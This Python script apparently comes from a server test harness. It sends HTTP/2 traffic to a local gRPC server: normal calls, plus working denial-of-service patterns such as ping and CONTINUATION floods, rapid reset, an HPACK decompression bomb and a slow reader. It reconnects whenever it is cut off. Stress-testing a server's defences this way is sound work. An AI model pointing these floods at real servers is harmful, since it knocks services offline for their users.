#!/usr/bin/env python3
"""One peer of a server, good or bad, that sends at a steady pace; a peer whose connection is closed connects again at once and goes on.

Usage: hostile.py KIND PORT RATE SECONDS
Example: hostile.py ping_flood 7070 10000 5

RATE is frames a second, or bytes a second for the kinds that BYTE_KINDS names. Prints a JSON object of what was really sent.
`neighbour` sends good unary calls, two frames each; `neighbour_bytes` sends good calls of 10 KB, as many as make the bytes.
"""

import json
import os
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, ExtensionFrame, HeadersFrame, PingFrame, RstStreamFrame
from hyperframe.frame import SettingsFrame, WindowUpdateFrame

TICK = 0.005
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/bench.Echo/Unary"),
    (":authority", "127.0.0.1"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def block(fields=HEADERS):
    """A header block that leaves no trace in the server's table, so that it may be sent any number of times."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


BLOCK = block()


def headers(stream, content=BLOCK, flags=("END_HEADERS",)):
    return HeadersFrame(stream, content, flags=flags).serialize()


def good_call(stream, size):
    body = struct.pack(">BI", 0, size) + bytes(size)
    return headers(stream) + b"".join(
        DataFrame(stream, body[at : at + 16_384], flags=["END_STREAM"] if at + 16_384 >= len(body) else []).serialize()
        for at in range(0, len(body), 16_384)
    )


class Peer:
    """What one connection sends next: a list of frames, the next stream's number counted on."""

    #: Frames that one step sends.
    frames = 1

    def __init__(self):
        self.stream = 1

    def opening(self):
        return b""

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def step(self):
        raise NotImplementedError


class Neighbour(Peer):
    frames, size = 2, 100

    def step(self):
        return good_call(self.next_stream(), self.size)


class NeighbourBytes(Neighbour):
    size = 10_000


class PingFlood(Peer):
    def step(self):
        return PingFrame(0, b"holster!").serialize()


class SettingsFlood(Peer):
    def step(self):
        return SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()


class EmptyDataFlood(Peer):
    def opening(self):
        return headers(1)

    def step(self):
        return DataFrame(1, b"").serialize()


class UnknownFrameFlood(Peer):
    def step(self):
        return ExtensionFrame(type=0xBE, stream_id=0, flag_byte=0, body=b"holster!").serialize()


class RapidReset(Peer):
    frames = 2

    def step(self):
        stream = self.next_stream()
        return headers(stream) + RstStreamFrame(stream, error_code=8).serialize()


class ContinuationFlood(Peer):
    def opening(self):
        return headers(1, flags=())

    def step(self):
        return ContinuationFrame(1, block([("x-more", "y" * 60)])).serialize()


class HPACKBomb(Peer):
    """One field of 4,000 bytes put into the table, then named 12,000 times by one byte each: 16 KB that mean 48 MB."""

    def step(self):
        big = b"\x40" + b"\x01x" + b"\x7f" + b"\xa1\x1e" + b"y" * 4_000
        return headers(self.next_stream(), BLOCK + big + b"\xbe" * 12_000)


class SlowReader(Peer):
    """Calls whose answers it never reads, a hundred a connection."""

    def step(self):
        return good_call(self.next_stream(), 10_000) if self.stream < 200 else b""


KINDS = {
    "neighbour": Neighbour,
    "neighbour_bytes": NeighbourBytes,
    "ping_flood": PingFlood,
    "settings_flood": SettingsFlood,
    "empty_data_flood": EmptyDataFlood,
    "unknown_frame_flood": UnknownFrameFlood,
    "rapid_reset": RapidReset,
    "continuation_flood": ContinuationFlood,
    "hpack_bomb": HPACKBomb,
    "slow_reader": SlowReader,
}
BYTE_KINDS = {"neighbour_bytes", "hpack_bomb", "slow_reader"}


class Sender:
    """A connection that is always there: sends, reads what comes (but for the slow reader), and connects again when it is closed."""

    def __init__(self, kind, port):
        self.kind, self.port = kind, port
        self.connections, self.frames, self.bytes, self.received = 0, 0, 0, 0
        self.connect()

    def connect(self):
        self.connections += 1
        self.peer = KINDS[self.kind]()
        self.socket = socket.create_connection(("127.0.0.1", self.port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}).serialize()
        window = WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize()
        self.waiting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + window
        self.waiting += SettingsFrame(0, flags=["ACK"]).serialize() + self.peer.opening()
        self.socket.setblocking(False)

    def turn(self, allowance):
        """Sends what the pace allows. Returns how much of the allowance was used: what does not fit the socket waits."""
        used = 0
        try:
            if self.kind != "slow_reader":
                self.read()
            while used < allowance and len(self.waiting) < 1 << 18:
                step = self.peer.step()
                if not step:
                    break
                self.waiting += step
                self.frames += self.peer.frames
                self.bytes += len(step)
                used += len(step) if self.kind in BYTE_KINDS else self.peer.frames
            while self.waiting:
                self.waiting = self.waiting[self.socket.send(self.waiting) :]
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self.connect()
        return used

    def read(self):
        while True:
            try:
                received = self.socket.recv(1 << 18)
            except BlockingIOError:
                return
            if not received:
                raise ConnectionResetError
            self.received += len(received)


def main(kind, port, rate, seconds):
    # The victim's client shares this core: it must never wait for it.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    sender = Sender(kind, port)
    start = time.monotonic()
    allowed = used = 0.0
    while (now := time.monotonic() - start) < seconds:
        # What could not be sent in time is not made up for: the pace is a ceiling.
        allowed = rate * now
        used = max(used, allowed - rate * 0.1)
        used += sender.turn(allowed - used)
        if kind == "slow_reader" and sender.peer.stream >= 200 and not sender.waiting:
            used = allowed if sender.connections > now else used
            if sender.connections <= now:
                sender.socket.close()
                sender.connect()
        time.sleep(TICK)
    counts = {"frames": sender.frames, "bytes": sender.bytes, "received": sender.received, "connections": sender.connections}
    print(json.dumps({"kind": kind, **{name: round(count / seconds) for name, count in counts.items()}}))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
